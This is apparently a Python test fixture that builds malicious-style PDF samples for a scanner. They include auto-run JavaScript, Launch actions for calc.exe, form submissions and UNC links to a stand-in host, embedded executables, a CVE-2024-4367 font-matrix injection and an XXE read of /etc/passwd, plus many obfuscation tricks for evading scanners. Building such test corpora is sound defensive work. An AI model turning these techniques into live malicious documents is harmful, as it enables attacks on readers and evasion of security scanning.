"""PDFs that do something by themselves, and the ways to hide that they do (ISO 32000-2, 12.6)."""

from __future__ import annotations

import base64
import io
import zlib
from collections.abc import Callable

import pikepdf

from tests.support.corpus.office import docx
from tests.support.corpus.packing import zipped
from tests.support.corpus.pdfs import pdf, stream, with_object_stream
from tests.support.corpus.programs import pe
from tests.support.corpus.sample import REJECTED, RISKY, UNSCANNABLE, Sample, samples

JS = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = "<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>"


def _opens(action: str) -> Callable[[], bytes]:
    """Does this when it is opened."""
    return lambda: pdf(f"/OpenAction {action}")


def _note(annotation: str, *objects: str | bytes) -> Callable[[], bytes]:
    """A page with this annotation, and further objects from number 7 on."""
    return lambda: pdf(page="/Annots [6 0 R]", objects=[f"<< /Type /Annot /Rect [0 0 500 800] {annotation} >>", *objects])


def attached(content: bytes, name: str, catalog: str = "") -> bytes:
    names = f"{catalog} /Names << /EmbeddedFiles << /Names [({name}) 6 0 R] >> >>"
    entry = f"<< /Type /Filespec /F ({name}) /EF << /F 7 0 R >> >>"
    return pdf(names, objects=[entry, stream(content, "/Type /EmbeddedFile", packed=True)])


def owner_locked() -> bytes:
    """Opens without a password, though it is encrypted, and runs a script."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(f"/OpenAction {JS}"))) as opened:
        lock = pikepdf.Encryption(user="", owner="owner", R=3, aes=False, metadata=False)
        opened.save(made, encryption=lock, static_id=True)
    return made.getvalue()


def updated() -> bytes:
    """A sound file with a later version of its catalog."""
    first = pdf()
    catalog = f"\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {JS} >>\nendobj\n".encode()
    begins = len(first) + len(catalog)
    table = f"xref\n1 1\n{len(first) + 1:010d} 00000 n \n".encode()
    before = first.rindex(b"xref\n0 ")
    return first + catalog + table + f"trailer\n<< /Size 6 /Root 1 0 R /Prev {before} >>\nstartxref\n{begins}\n%%EOF\n".encode()


def hex_packed(catalog: bytes, script: bytes) -> bytes:
    """An object stream deflated and then written in hexadecimal."""
    plain = with_object_stream([catalog, script], 6, pack=False, extra="")
    begin, end = plain.index(b"stream\n") + 7, plain.index(b"\nendstream")
    coded = zlib.compress(plain[begin:end]).hex().encode() + b">"
    changed = plain[:begin] + coded + plain[end:]
    length = f"/Length {end - begin} ".encode()
    return changed.replace(length, f"/Length {len(coded)} /Filter [/ASCIIHexDecode /FlateDecode]".encode(), 1)


def font_matrix() -> bytes:
    """A font whose matrix holds code for a reader that evaluates it (CVE-2024-4367)."""
    font = "<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontMatrix [1 2 3 4 5 (1\\); alert\\('x'\\)] >>"
    return pdf(page="/Rotate 0", objects=[font])


def metadata() -> bytes:
    """XMP that asks for a file of the reader's."""
    packet = b'<?xpacket begin=""?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&f;</x:xmpmeta>'
    return pdf("/Metadata 6 0 R", objects=[stream(packet, "/Type /Metadata /Subtype /XML")])


XFA = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>'
CATALOG = b"<< /Type /Catalog /Pages 1 0 R /OpenAction 7 0 R >>"
RUNNING = samples(
    RISKY,
    [
        ("open-javascript", "statement.pdf", _opens(JS)),
        ("open-javascript-object", "statement.pdf", lambda: pdf("/OpenAction 6 0 R", objects=[JS])),
        (
            "open-javascript-stream",
            "statement.pdf",
            lambda: pdf("/OpenAction << /S /JavaScript /JS 6 0 R >>", objects=[stream(b"app.alert(1)", packed=True)]),
        ),
        ("named-javascript", "statement.pdf", lambda: pdf(f"/Names << /JavaScript << /Names [(a) {JS}] >> >>")),
        ("document-additional-action", "statement.pdf", lambda: pdf(f"/AA << /WC {JS} >>")),
        ("page-additional-action", "statement.pdf", lambda: pdf(page=f"/AA << /O {JS} >>")),
        ("annotation", "statement.pdf", _note(f"/Subtype /Link /A {JS}")),
        ("annotation-additional-action", "statement.pdf", _note(f"/Subtype /Widget /FT /Tx /T (a) /AA << /PV {JS} >>")),
        (
            "form-calculation",
            "statement.pdf",
            lambda: pdf("/AcroForm << /Fields [6 0 R] >>", objects=[f"<< /FT /Tx /T (a) /AA << /C {JS} >> >>"]),
        ),
        (
            "bookmark",
            "statement.pdf",
            lambda: pdf(
                "/Outlines 6 0 R",
                objects=["<< /First 7 0 R /Last 7 0 R /Count 1 >>", f"<< /Title (Pay) /Parent 6 0 R /A {JS} >>"],
            ),
        ),
        ("next-action", "statement.pdf", _opens(f"<< /S /Named /N /NextPage /Next {JS} >>")),
        ("rendition", "statement.pdf", _note("/Subtype /Screen /A << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>")),
        ("launch", "statement.pdf", _opens(LAUNCH)),
        ("launch-on-click", "statement.pdf", _note(f"/Subtype /Link /A {LAUNCH}")),
        (
            "launch-share",
            "statement.pdf",
            _opens("<< /S /Launch /F << /Type /Filespec /F (\\\\\\\\192.0.2.1\\\\a\\\\b.exe) >> >>"),
        ),
        ("submit-form", "statement.pdf", _opens("<< /S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >> >>")),
        ("import-data", "statement.pdf", _opens("<< /S /ImportData /F (\\\\\\\\192.0.2.1\\\\a.fdf) >>")),
        ("go-to-remote-share", "statement.pdf", _opens("<< /S /GoToR /D [0 /Fit] /F (\\\\\\\\192.0.2.1\\\\share) >>")),
        (
            "go-to-remote-page",
            "statement.pdf",
            lambda: pdf(page="/AA << /O << /S /GoToR /D [0 /Fit] /F (\\\\\\\\192.0.2.1\\\\x) >> >>"),
        ),
        ("go-to-embedded", "statement.pdf", _opens("<< /S /GoToE /F (http://192.0.2.1/a.pdf) /D (x) >>")),
        ("open-address", "statement.pdf", _opens("<< /S /URI /URI (http://192.0.2.1/) >>")),
        ("address-javascript", "statement.pdf", _note("/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>")),
        ("address-file", "statement.pdf", _note("/Subtype /Link /A << /S /URI /URI (file://192.0.2.1/share/a.exe) >>")),
        ("attachment-program", "statement.pdf", lambda: attached(pe(), "setup.exe")),
        ("attachment-text", "statement.pdf", lambda: attached(b"Dear Aoife", "letter.txt")),
        ("attachment-docx", "statement.pdf", lambda: attached(docx(), "letter.docx")),
        (
            "attachment-note",
            "statement.pdf",
            _note(
                "/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                stream(pe(), "/Type /EmbeddedFile"),
            ),
        ),
        ("portfolio", "statement.pdf", lambda: attached(pdf(), "other.pdf", "/Collection << /View /T >>")),
        ("xfa-form", "statement.pdf", lambda: pdf("/AcroForm << /Fields [] /XFA 6 0 R >>", objects=[stream(XFA, packed=True)])),
        (
            "rich-media",
            "statement.pdf",
            _note(
                "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 7 0 R] >> >>",
                "<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>",
                stream(b"FWS\x09" + bytes(60)),
            ),
        ),
        ("movie", "statement.pdf", _note("/Subtype /Movie /Movie << /F (http://192.0.2.1/a.avi) >> /A true")),
        (
            "three-dimensional-script",
            "statement.pdf",
            _note(
                "/Subtype /3D /3DD 7 0 R",
                stream(b"U3D\0", "/Type /3D /Subtype /U3D /OnInstantiate 8 0 R"),
                stream(b"app.alert(1)"),
            ),
        ),
        ("stream-from-outside", "statement.pdf", lambda: pdf(objects=[stream(b"", "/F << /FS /URL /F (http://192.0.2.1/a) >>")])),
        ("font-matrix-code", "statement.pdf", font_matrix),
        ("metadata-entity", "statement.pdf", metadata),
    ],
)
HIDDEN = samples(
    RISKY | UNSCANNABLE | REJECTED,
    [
        ("name-in-hexadecimal", "statement.pdf", _opens("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")),
        (
            "key-in-hexadecimal",
            "statement.pdf",
            lambda: pdf(f"/Open#41ction {JS.replace('/JavaScript', '/#4A#61#76#61#53#63#72#69#70#74').replace('/JS', '/#4AS')}"),
        ),
        ("launch-in-hexadecimal", "statement.pdf", _opens("<< /S /L#61unch /F (calc.exe) >>")),
        ("comment-between", "statement.pdf", _opens("<< /S %x\n/JavaScript%y\n/JS%z\n(app.alert\\(1\\)) >>")),
        ("no-white-space", "statement.pdf", _opens("<</S/JavaScript/JS(app.alert\\(1\\))>>")),
        ("odd-white-space", "statement.pdf", _opens("<<\0/S\f/JavaScript\t/JS\r(app.alert\\(1\\))>>")),
        ("object-stream", "statement.pdf", lambda: with_object_stream([CATALOG, JS.encode()], 6)),
        ("object-stream-plain", "statement.pdf", lambda: with_object_stream([CATALOG, JS.encode()], 6, pack=False, extra="")),
        ("object-stream-in-hexadecimal", "statement.pdf", lambda: hex_packed(CATALOG, JS.encode())),
        (
            "object-stream-hidden-name",
            "statement.pdf",
            lambda: with_object_stream([CATALOG, JS.replace("/JavaScript", "/Java#53cript").encode()], 6),
        ),
        ("owner-password", "statement.pdf", owner_locked),
        ("later-version", "statement.pdf", updated),
        ("bytes-before-head", "statement.pdf", lambda: b"x" * 500 + b"\n" + pdf(f"/OpenAction {JS}")),
        ("no-table", "statement.pdf", lambda: pdf(f"/OpenAction {JS}").replace(b"xref\n0", b"xxxx\n0")),
        ("wrong-table", "statement.pdf", lambda: pdf(f"/OpenAction {JS}").replace(b"startxref\n", b"startxref\n9")),
        ("no-end", "statement.pdf", lambda: pdf(f"/OpenAction {JS}").partition(b"xref\n0")[0]),
        ("strange-version", "statement.pdf", lambda: pdf(f"/OpenAction {JS}", version=b"%PDF-9.9")),
        ("script-in-hexadecimal", "statement.pdf", _opens(f"<< /S /JavaScript /JS <{b'app.alert(1)'.hex()}> >>")),
        ("in-zip", "letters.zip", lambda: zipped({"statement.pdf": pdf(f"/OpenAction {JS}")})),
        ("no-name", "", lambda: pdf(f"/OpenAction {JS}")),
        (
            "attachment-in-base-85",
            "statement.pdf",
            lambda: pdf(
                "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
                objects=[
                    "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                    stream(base64.a85encode(pe()) + b"~>", "/Filter /ASCII85Decode"),
                ],
            ),
        ),
    ],
)
ACTIVE_PDF = (
    *RUNNING,
    *HIDDEN,
    Sample(
        "forms-data",
        "form.fdf",
        lambda: b"%FDF-1.2\n1 0 obj\n<< /FDF << /F (http://192.0.2.1/) >> >>\nendobj\n%%EOF",
        RISKY | UNSCANNABLE | REJECTED,
    ),
)
